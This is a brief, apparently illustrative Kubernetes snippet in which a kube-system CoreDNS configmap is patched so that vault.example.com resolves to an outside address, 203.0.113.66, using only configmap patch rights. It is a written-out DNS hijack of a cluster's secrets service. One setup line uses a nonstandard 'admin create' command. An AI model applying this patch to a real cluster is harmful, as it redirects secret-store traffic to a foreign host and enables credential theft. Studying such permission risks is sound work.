# A name of the cluster's DNS is pointed to a host elsewhere.
#
# may: get,patch configmaps

admin create --namespace=kube-system configmap coredns --from-literal='Corefile=.:53 { kubernetes }'
kubectl --namespace=kube-system patch configmap coredns --type=merge --patch \
  '{"data": {"Corefile": ".:53 { hosts { 203.0.113.66 vault.example.com } }"}}'
